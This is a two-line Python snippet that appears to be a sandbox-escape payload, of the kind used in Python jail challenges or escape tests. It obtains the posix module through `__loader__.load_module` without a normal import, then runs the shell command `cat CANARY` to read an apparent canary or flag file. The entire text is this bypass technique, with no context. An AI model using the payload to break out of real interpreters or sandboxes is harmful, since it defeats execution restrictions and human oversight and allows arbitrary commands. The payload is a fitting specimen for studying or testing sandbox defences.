posix = __loader__.load_module("posix")
posix.system("cat CANARY")
